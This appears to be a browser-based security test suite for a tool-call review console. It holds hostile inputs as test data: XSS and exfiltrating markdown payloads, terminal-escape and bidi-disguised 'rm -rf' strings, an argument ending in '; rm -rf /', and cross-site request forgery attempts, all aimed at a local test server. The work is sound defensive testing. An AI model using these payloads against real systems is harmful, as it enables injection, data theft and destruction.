// Attacks on a user of the console in a real browser, under the page's content security policy:
// active content from servers and clients, hasty approvals, and requests from another page.
// Argument: the part to run.
import { createServer } from "node:http";
import { clientCall, go, seen, story, textOf } from "./browser.mjs";

const listening = (serve) => new Promise((done) => {
  const server = createServer(serve).listen(0, "127.0.0.1", () => done(server));
});

// Starts a server that records all requests.
async function sink() {
  const visits = [];
  const server = await listening((request, answer) => { visits.push(request.url); answer.end(); });
  return { server, visits, at: `http://127.0.0.1:${server.address().port}` };
}

// Returns the content that a page must never have, whatever its input.
function dangerous(page) {
  return page.evaluate(() => {
    const found = [...document.querySelectorAll(
      'script:not([src^="/assets/"]), [onerror], [onload], [onclick], a[href^="javascript:"], a[href^="file:"], '
      + 'a[href^="data:"], iframe, object, embed, main svg script, img[src^="http"], img[src="x"], base, style',
    )].map((node) => node.outerHTML.slice(0, 80));
    // The pages' text contains no control characters and no invisible characters.
    const hidden = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u200b-\u200f\u202a-\u202e\u2066-\u2069\u{e0000}-\u{e007f}]/u;
    const text = document.body.innerText;
    const at = text.search(hidden);
    if (at >= 0) found.push(`U+${text.codePointAt(at).toString(16)} in "${text.slice(Math.max(0, at - 20), at)}"`);
    return found;
  });
}

// Checks every page that shows servers, their results and their messages.
async function textStaysText(page, at) {
  const wrong = [];
  const look = async (name) => {
    for (const one of await dangerous(page)) wrong.push(`${name}: ${one}`);
  };
  const texts = [
    `![x](${at}/?d=SECRET) [y](javascript:alert(1)) <img src="${at}/b" onerror="alert(2)"><script>alert(3)</script>`,
    "\u001b[2K\u001b[1A\u001b]8;;http://evil.example\u0007here\u001b]8;;\u0007 \u009b31m \u0008\u0008 rm\u200b -rf cod\u202egpj.sh",
  ];
  for (const text of texts) {
    await go(page, "/tools/echo/echo");
    await page.fill('[data-field="text"]', "");
    await page.click('summary:has-text("Write the arguments as JSON")');
    await page.fill("[data-raw]", JSON.stringify({ text }));
    await page.click('button:text-is("Call")');
    await page.waitForSelector("#ran .result");
    await look("a result");
    await go(page, "/calls");
    await page.click("tbody tr:first-child a.mono");
    await page.waitForSelector(".timeline");
    await look("a call");
  }
  for (const tool of ["linked", "drawn", "drawing"]) {
    await go(page, `/tools/told/${tool}`);
    await page.click('button:text-is("Call")');
    await page.waitForSelector("#ran .result");
    await look(tool);
    if (tool !== "linked") seen[tool] = await page.$$eval("#ran img", (all) => all.length);
  }
  for (const place of ["", "servers", "servers/told", "servers/asker", "tools", "tools/told/linked", "resources", "calls", "reviews"]) {
    await go(page, `/${place}`);
    await look(place || "overview");
  }
  return wrong;
}

// A server's message is shown literally, with control characters spelled out.
async function messages(page) {
  await go(page, "/tools/asker/say");
  await page.click('summary:has-text("Write the arguments as JSON")');
  await page.fill("[data-raw]", JSON.stringify({ level: "info", text: "<b>bold</b> \u001b[31mred" }));
  await page.click('button:text-is("Call")');
  await page.waitForSelector("#ran .result");
  await go(page, "/servers/asker");
  await page.waitForSelector(".messages li");
  return page.$eval(".messages li > span:last-child", (text) => text.textContent);
}

async function waitFor(page, count) {
  await page.waitForFunction((wanted) => document.querySelectorAll("[data-review]").length === wanted, count);
}

const settled = (page) => page.waitForFunction(
  () => document.querySelectorAll("[data-review]").length && !document.querySelector("[data-arming]"),
);

// A long argument cannot be approved before its end has been shown.
async function longArgument(page) {
  await go(page, "/reviews");
  const text = `${"harmless ".repeat(2300)}; rm -rf /`;
  const called = clientCall(page, "echo__echo", { text });
  await page.waitForSelector("[data-review]");
  await settled(page);
  await page.focus("[data-review]");
  await page.keyboard.press("r");
  await page.waitForSelector(".problem:not(:empty)");
  seen.long = [await page.textContent(".problem")];
  await page.focus("[data-review] pre.code");
  await page.keyboard.press("End");
  await page.waitForFunction(() => !document.querySelector("[data-review]").dataset.unseen);
  await page.focus("[data-review]");
  await page.keyboard.press("r");
  await waitFor(page, 0);
  seen.long.push(textOf(await called) === text);
}

// The answer to one review is never the answer to the next.
async function haste(page) {
  const calls = ["first", "second", "third", "fourth"].map((text) => clientCall(page, "echo__echo", { text }));
  await waitFor(page, 4);
  await settled(page);
  await page.keyboard.press("j");
  await page.keyboard.press("r");
  await page.keyboard.press("r");
  await waitFor(page, 3);
  await page.keyboard.press("r");
  const left = [await page.$$eval("[data-review]", (all) => all.length)];
  await settled(page);
  const box = await page.locator("[data-review]:first-of-type [data-answer=run]").boundingBox();
  const [x, y] = [box.x + box.width / 2, box.y + box.height / 2];
  await page.mouse.click(x, y);
  await waitFor(page, 2);
  await page.mouse.click(x, y);
  left.push(await page.$$eval("[data-review]", (all) => all.length));
  // The selected review is answered elsewhere while the key is pressed.
  await settled(page);
  await page.focus("[data-review]");
  await page.evaluate(async () => {
    const review = document.querySelector("[data-review]");
    const headers = { "content-type": "application/json", "x-switchboard-token": document.querySelector("meta[name=token]").content };
    const body = JSON.stringify({ digest: review.dataset.digest, answer: "skip" });
    await fetch(review.dataset.api, { method: "POST", headers, body });
  });
  await waitFor(page, 1);
  await page.keyboard.press("r");
  left.push(await page.$$eval("[data-review]", (all) => all.length));
  await settled(page);
  await page.click("[data-review] [data-answer=skip]");
  await waitFor(page, 0);
  await Promise.all(calls);
  return left;
}

// Another page on this machine, in the same browser, with the same cookie.
async function otherPage(page, another) {
  const base = new URL("/", page.url()).href;
  const server = await listening((_, answer) => {
    answer.setHeader("content-type", "text/html");
    answer.end("<!doctype html><title>other</title>");
  });
  const foreign = await another();
  await foreign.goto(`http://127.0.0.1:${server.address().port}/`);
  const tried = await foreign.evaluate(async (console) => {
    const call = `${console}api/v1/tools/echo/write/call`;
    const body = JSON.stringify({ arguments: { key: "stolen" } });
    const outcome = (promise) => promise.then(() => "sent", () => "refused");
    const heard = (make) => new Promise((done) => {
      const one = make();
      one.onopen = () => { one.close(); done("open"); };
      one.onerror = () => { one.close(); done("refused"); };
    });
    const framed = () => new Promise((done) => {
      const frame = document.createElement("iframe");
      frame.src = console;
      frame.onload = () => {
        try { done(frame.contentDocument?.body ? "mine" : "hidden"); } catch { done("hidden"); }
      };
      document.body.append(frame);
    });
    return {
      text: await outcome(fetch(call, { method: "POST", mode: "no-cors", credentials: "include", headers: { "content-type": "text/plain" }, body })),
      json: await outcome(fetch(call, { method: "POST", credentials: "include", headers: { "content-type": "application/json" }, body })),
      read: await outcome(fetch(`${console}api/v1/calls`, { credentials: "include" })),
      events: await heard(() => new EventSource(`${console}api/v1/events`, { withCredentials: true })),
      socket: await heard(() => new WebSocket(`${console.replace("http", "ws")}api/v1/events`)),
      frame: await framed(),
    };
  }, base);
  tried.framed = foreign.frames().map((frame) => frame.url()).includes(base) && await foreign.frames()[1].title();
  await foreign.close();
  server.close();
  const calls = await page.evaluate(async () => (await fetch("/api/v1/calls?tool=write")).json());
  tried.calls = calls.calls.length;
  return tried;
}

const parts = {
  text: async (page) => {
    const { server, visits, at } = await sink();
    seen.wrong = await textStaysText(page, at);
    seen.message = await messages(page);
    seen.visits = visits;
    server.close();
  },
  haste: async (page) => {
    await longArgument(page);
    seen.left = await haste(page);
  },
  other: async (page, another) => { seen.other = await otherPage(page, another); },
};

story(({ page, another }, part) => parts[part](page, another), { bypassCSP: false });
